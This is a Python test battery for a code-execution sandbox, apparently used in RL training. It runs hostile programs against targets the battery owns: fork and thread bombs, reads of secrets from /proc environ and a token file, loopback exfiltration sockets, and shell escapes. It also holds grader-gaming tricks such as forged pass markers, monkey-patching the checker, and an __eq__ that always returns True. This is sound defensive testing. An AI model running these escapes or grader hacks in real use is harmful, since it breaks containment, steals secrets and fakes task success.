"""The hostile battery: programs that attack the sandbox, the layers expected to stop each, and a runner for it.

    python -m recipe.sandbox.battery            # every layer on, then each off: which attack each layer stops

Every attack targets only what the battery itself owns (Targets): a loopback server and a loopback port it
connects to, a victim process holding a secret in its environment, a fake home with a token file, a directory
outside the sandbox, files named after a random token. Each attack is a job whose test passes exactly when the
attack got through (it prints the secret, or what it did); a side effect seen outside (a file written, a byte
received) counts as a breach too. `stoppers` are the layers any one of which stops it ("base": the always-on
floor: empty environment, rlimits, wall clock, output caps, verdicts decided outside, process-tree reaping).
"""

from __future__ import annotations

import os
import secrets
import shutil
import socket
import string
import subprocess
import sys
import tempfile
import threading
from dataclasses import dataclass
from pathlib import Path

from recipe.sandbox.cases import CallTest, Job, Limits, StdioTest

SECRET_NAME = "SCALERL_BATTERY_SECRET"
LIMITS = Limits(cpu_seconds=1, wall_seconds=2.0, start_seconds=10.0)
ATTACKS: dict[str, Attack] = {}


@dataclass(frozen=True)
class Attack:
    name: str
    program: str  # a string.Template over the Targets' fields
    expected: str  # what the program prints when it got through ("" : it never can: a job whose test fails)
    stoppers: frozenset[str]
    needs: frozenset[str] = frozenset()  # layers without which running it would harm the host (a fork bomb)
    harmless: bool = False  # it may pass: what it does stays inside the sandbox and is gone afterwards
    # Judged by its mark outside (a host file, a byte at the battery's server), not by what it prints: writing
    # /tmp/x succeeds harmlessly in a private /tmp.
    by_effect: bool = False


def attack(name: str, stoppers: str, expected: str, program: str, needs: str = "", harmless: bool = False):
    by_effect = name.startswith(("write_", "connect_", "bind_", "ctypes_", "posix_"))
    ATTACKS[name] = Attack(name, program, expected, frozenset(stoppers.split()), frozenset(needs.split()), harmless,
                           by_effect)


attack("fork_bomb", "uid", "bomb", """
import os, time
n = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        n += 1
except OSError:
    pass
print("bomb" if n == 2000 else "stopped")
""", needs="uid")
attack("thread_bomb", "base", "bomb", """
import threading, time
n = 0
try:
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        n += 1
except Exception:
    pass
print("bomb" if n == 5000 else "stopped")
""")
# Pool(64) fails on the base's RLIMIT_NOFILE already (each worker holds pipes); the uid layer's RLIMIT_NPROC, and
# Landlock and the mount layer (no writable /dev/shm for its locks), would stop it too.
attack("multiprocessing_bomb", "base", "bomb", """
import multiprocessing
with multiprocessing.Pool(64) as pool:
    print("bomb" if sum(pool.map(abs, range(64))) == 2016 else "stopped")
""")
attack("busy_loop_ignoring_signals", "base", "", """
import signal
for number in (signal.SIGXCPU, signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
while True:
    pass
""")
attack("blocking_on_stdin", "base", "", """
import os, select, sys
sys.stdin.read()
os.read(0, 1)
select.select([0], [], [], 5)
open("/dev/tty").read()
""")
attack("ten_gb_allocation", "base", "allocated", "x = bytearray(10 * 2**30)\nprint('allocated')\n")
attack("output_flood", "base", "", "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n")
attack("one_gb_file", "base", "written", """
with open("big", "wb") as handle:
    for _ in range(1024):
        handle.write(bytes(2**20))
print("written")
""")
attack("thousands_of_files", "", "made", """
import os
for i in range(3000):
    open("f%d" % i, "w").close()
print("made" if len(os.listdir(".")) >= 3000 else "no")
""", harmless=True)
attack("write_home", "mount landlock uid", "wrote", "open('$home/attack', 'w').write('x')\nprint('wrote')\n")
attack("write_tmp", "mount landlock", "wrote", "open('/tmp/$token-tmp', 'w').write('x')\nprint('wrote')\n")
attack("write_outside", "mount landlock uid", "wrote", "open('$outside/attack', 'w').write('x')\nprint('wrote')\n")
attack("read_env_secret", "base", "$secret", "import os\nprint(os.environ.get('$secret_name', 'absent'))\n")
# root_nocaps: as root the program keeps no capabilities (the base), and a process without them may not read the
# environ of a root process that has them (the victim): the base stops it for root, not for another user.
attack("read_proc_environ", "pid mount uid landlock root_nocaps", "$secret", """
import os
pids, pid = [$victim], os.getpid()
for _ in range(12):  # every ancestor too (the runner, bwrap, the pool, the caller)
    try:
        pid = int(open("/proc/%d/stat" % pid).read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
    pids.append(pid)
found = False
for pid in pids:
    try:
        found = found or b"$secret" in open("/proc/%d/environ" % pid, "rb").read()
    except OSError:
        pass
print("$secret" if found else "no")
""")
attack("read_home_token", "mount landlock uid", "$token", "print(open('$home/.cache/huggingface/token').read())\n")
attack("connect_loopback", "net landlock_net seccomp", "sent", """
import socket
connection = socket.create_connection(("127.0.0.1", $server_port), timeout=1)
connection.sendall(b"$token")
connection.close()
print("sent")
""")
attack("bind_loopback_port", "net landlock_net seccomp", "accepted", """
import socket
listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("127.0.0.1", $listen_port))
listener.listen(1)
listener.settimeout(1.0)
connection, _ = listener.accept()
connection.sendall(b"$token")
print("accepted")
""")
attack("ctypes_raw_socket", "net landlock_net seccomp", "sent", """
import ctypes, struct
libc = ctypes.CDLL(None)
fd = libc.socket(2, 1, 0)
address = struct.pack("=H", 2) + struct.pack("!H", $server_port) + bytes([127, 0, 0, 1]) + bytes(8)
if fd >= 0 and libc.connect(fd, address, 16) == 0 and libc.write(fd, b"$token", $token_length) > 0:
    print("sent")
""")
attack("posix_shell_escape", "mount landlock uid", "ran", """
import os, posix
posix.system("echo x > $outside/shell")
os.posix_spawn("/bin/sh", ["sh", "-c", "echo x > $outside/spawn"], {})
os.wait()
print("ran" if os.path.exists("$outside/shell") or os.path.exists("$outside/spawn") else "no")
""")
attack("setsid_daemon", "base", "", """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(30)  # a daemon that would outlive the run; the leftover check looks for it
        os._exit(0)
    os._exit(0)
time.sleep(0.2)
""")
attack("kill_parent", "base", "", "import os, signal, time\nos.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(0.5)\n")
attack("exit_zero_before_printing", "base", "$answer", "import sys\nsys.exit(0)\nprint('$answer')\n")
attack("forged_marker", "base", "$answer", """
import os
print("PASS\\nAll tests passed\\n0 ok 6 0\\nforged\\nend")
os.write(1, b"0 ok 4 0\\npass\\nend\\n")
""")
attack("patch_the_checker", "base", "$answer", """
import gc, os
for space in [item for item in gc.get_objects() if isinstance(item, dict)]:
    for name in ("status_of", "write_all", "plain", "check", "verdict"):
        if name in space:
            space[name] = lambda *args, **kwargs: "ok"
try:
    channel = os.open("/proc/%d/fd/1" % os.getppid(), os.O_WRONLY)
    os.write(channel, b"0 ok 6 0\\nforged\\nend\\n")
except OSError:
    pass
print("forged")
""")
attack("find_the_expected_output", "base", "$answer", """
import gc
print(next((item for item in gc.get_objects() if isinstance(item, str) and item.startswith("answer-")), "none"))
""")
attack("eq_always_true", "base", "", """
class Anything:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
class Integer(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
def square(x):
    return Anything()
def cube(x):
    return Integer(0)
""")


@dataclass
class Targets:
    """What the battery owns and attacks: made by Battery, removed when it exits."""
    token: str
    secret: str
    answer: str
    home: Path
    outside: Path
    server_port: int
    listen_port: int
    victim: int
    received: list  # bytes the loopback server and the port connector got


class Battery:
    """Context manager that sets up the Targets (and the secret in this process's environment) and removes them."""

    def __enter__(self) -> Targets:
        self.root = Path(tempfile.mkdtemp(prefix="scalerl-battery-"))
        os.chmod(self.root, 0o755)
        token = secrets.token_hex(8)
        home, outside = self.root / "home", self.root / "outside"
        (home / ".cache" / "huggingface").mkdir(parents=True)
        outside.mkdir()
        for directory in (home, home / ".cache", home / ".cache" / "huggingface", outside):
            os.chmod(directory, 0o755)
        token_file = home / ".cache" / "huggingface" / "token"
        token_file.write_text(token)
        os.chmod(token_file, 0o600)
        self.secret = "secret-" + secrets.token_hex(8)
        self.old_secret = os.environ.get(SECRET_NAME)
        os.environ[SECRET_NAME] = self.secret
        self.victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"],
                                       env={SECRET_NAME: self.secret})
        self.stop = threading.Event()
        self.received: list = []
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.05)
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            listen_port = probe.getsockname()[1]
        self.threads = [threading.Thread(target=self.serve, daemon=True),
                        threading.Thread(target=self.connect, args=(listen_port,), daemon=True)]
        for thread in self.threads:
            thread.start()
        self.targets = Targets(token, self.secret, "answer-" + secrets.token_hex(8), home, outside,
                               self.server.getsockname()[1], listen_port, self.victim.pid, self.received)
        return self.targets

    def serve(self) -> None:
        while not self.stop.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(1.0)
                try:
                    self.received.append(connection.recv(1024))
                except OSError:
                    pass

    def connect(self, port: int) -> None:
        """Knock on the port the bind attack listens on, the way a host process would, until the battery ends."""
        while not self.stop.wait(0.02):
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=0.2) as connection:
                    self.received.append(connection.recv(1024))
            except OSError:
                pass

    def __exit__(self, *exc) -> None:
        self.stop.set()
        for thread in self.threads:
            thread.join(timeout=5)
        self.server.close()
        self.victim.kill()
        self.victim.wait()
        if self.old_secret is None:
            os.environ.pop(SECRET_NAME, None)
        else:
            os.environ[SECRET_NAME] = self.old_secret
        for leftover in Path(tempfile.gettempdir()).glob(f"{self.targets.token}-*"):
            leftover.unlink()
        shutil.rmtree(self.root, ignore_errors=True)


def attack_job(item: Attack, targets: Targets) -> Job:
    fields = {"token": targets.token, "token_length": len(targets.token), "secret": targets.secret,
              "secret_name": SECRET_NAME, "answer": targets.answer, "home": targets.home,
              "outside": targets.outside, "server_port": targets.server_port, "listen_port": targets.listen_port,
              "victim": targets.victim}
    program = string.Template(item.program).substitute(fields)
    if item.name == "eq_always_true":
        return Job(program, (CallTest("square(7)", 49), CallTest("cube(3)", 27)), stop_at_first_failure=False,
                   limits=LIMITS)
    expected = string.Template(item.expected).substitute(fields) if item.expected else targets.answer
    return Job(program, (StdioTest("", expected),), limits=LIMITS)


def marks(item: Attack, targets: Targets) -> list[Path]:
    return {"write_home": [targets.home / "attack"], "write_tmp": [Path(f"/tmp/{targets.token}-tmp")],
            "write_outside": [targets.outside / "attack"],
            "posix_shell_escape": [targets.outside / "shell", targets.outside / "spawn"]}.get(item.name, [])


def clear_marks(targets: Targets) -> None:
    """Forget the previous run's breaches (files written, bytes received) before the next configuration."""
    for item in ATTACKS.values():
        for path in marks(item, targets):
            path.unlink(missing_ok=True)
    targets.received.clear()


def side_effects(item: Attack, targets: Targets) -> bool:
    """Whether the attack left a mark outside the sandbox (a file, a received byte)."""
    if any(path.exists() for path in marks(item, targets)):
        return True
    network = item.name in ("connect_loopback", "bind_loopback_port", "ctypes_raw_socket")
    return network and any(targets.token.encode() in data for data in list(targets.received))


def features(record: dict) -> set[str]:
    """The active layers, plus landlock_net where Landlock also guards TCP (ABI >= 4), plus the base."""
    active = set(record["active"]) | {"base"} | ({"root_nocaps"} if record["root"] else set())
    if "landlock" in active and record["landlock_abi"] >= 4:
        active.add("landlock_net")
    return active


def expected_stopped(item: Attack, record: dict) -> bool:
    return bool(item.stoppers & features(record))


def runnable(item: Attack, record: dict) -> bool:
    return item.needs <= set(record["active"])


def tagged_processes(tag: str) -> list[int]:
    """Processes whose command line carries the sandbox's tag (every sandbox process does, forks included)."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                if tag.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    found.append(int(entry))
            except OSError:
                pass
    return found


def slot_uid_processes(record: dict) -> list[int]:
    if not isinstance(record["uid"], str):
        return []
    base = int(record["uid"].split("+")[0])
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                uid = os.stat(f"/proc/{entry}").st_uid
            except OSError:
                continue
            if base <= uid < base + record["workers"]:
                found.append(int(entry))
    return found


def run_battery(targets: Targets, **sandbox_arguments) -> dict:
    """Run every attack once in a Sandbox(**sandbox_arguments); a report of plain data (JSON-able):
    record, results {attack: {verdicts, seconds, bound, breached, expected_stopped} or {skipped}}, and what was
    left behind (processes during the batch and after close, work directories that were not empty, files)."""
    from recipe.sandbox import Sandbox

    tag = "scalerl-battery-" + targets.token[:8]
    clear_marks(targets)
    with Sandbox(tag=tag, limits=LIMITS, **sandbox_arguments) as sandbox:
        record = sandbox.layers_record()
        attacks = [item for item in ATTACKS.values() if runnable(item, record)]
        outcomes = sandbox.run([attack_job(item, targets) for item in attacks])
        stray_slot_processes = slot_uid_processes(record)
        emptiness = sandbox.run([Job("import os\nprint(len(os.listdir('.')))\n", (StdioTest("", "0"),))]
                                * (2 * record["workers"]))
    left_processes = tagged_processes(tag)
    left_directories = [str(path) for path in Path(tempfile.gettempdir()).glob(f"{tag}-*")]
    results = {item.name: {"skipped": "running it needs " + ", ".join(sorted(item.needs))}
               for item in ATTACKS.values() if not runnable(item, record)}
    for item, outcome in zip(attacks, outcomes):
        bound = LIMITS.start_seconds + len(outcome.verdicts) * (LIMITS.wall_seconds + 0.5)
        results[item.name] = {"verdicts": list(outcome.verdicts), "seconds": round(outcome.seconds, 3),
                              "bound": bound, "expected_stopped": expected_stopped(item, record),
                              "breached": side_effects(item, targets) if item.by_effect else outcome.all_passed,
                              "harmless": item.harmless or (item.by_effect and outcome.all_passed)}
    return {"record": record, "results": results, "stray_slot_processes": stray_slot_processes,
            "left_processes": left_processes, "left_directories": left_directories,
            "work_directories_empty": all(outcome.all_passed for outcome in emptiness)}


CONFIGURATIONS = {  # name -> layers switched off (the battery's columns)
    "all": (), "-uid": ("uid",), "-pid": ("pid",), "-net": ("net",), "-mount": ("mount",),
    "-landlock": ("landlock",), "-seccomp": ("seccomp",), "no namespaces": ("pid", "net", "mount"),
    "base only": ("uid", "user", "pid", "net", "mount", "landlock", "seccomp"),
    **{f"only {layer}": tuple(other for other in ("uid", "user", "pid", "net", "mount", "landlock", "seccomp")
                              if other != layer) for layer in ("uid", "pid", "net", "mount", "landlock", "seccomp")},
}


def item_harmless(name: str) -> bool:
    return ATTACKS[name].harmless


def main() -> int:
    """Print the battery's outcome under every configuration: stopped / got through / harmless / skipped."""
    columns, table = [], {}
    with Battery() as targets:
        for name, disable in CONFIGURATIONS.items():
            report = run_battery(targets, disable=disable)
            columns.append(name)
            for attack_name, result in report["results"].items():
                cell = ("skipped" if "skipped" in result else "THROUGH" if result["breached"] and not item_harmless(
                    attack_name) else "harmless" if result["harmless"] else "stopped")
                table.setdefault(attack_name, {})[name] = cell
            print(f"{name}: active {', '.join(report['record']['active']) or 'none'}; left behind: "
                  f"{len(report['left_processes'])} processes, {len(report['left_directories'])} directories",
                  flush=True)
    print("| attack | " + " | ".join(columns) + " |")
    print("|---" * (len(columns) + 1) + "|")
    for attack_name, cells in table.items():
        print(f"| {attack_name} | " + " | ".join(cells.get(column, "") for column in columns) + " |")
    return 0


if __name__ == "__main__":
    sys.exit(main())
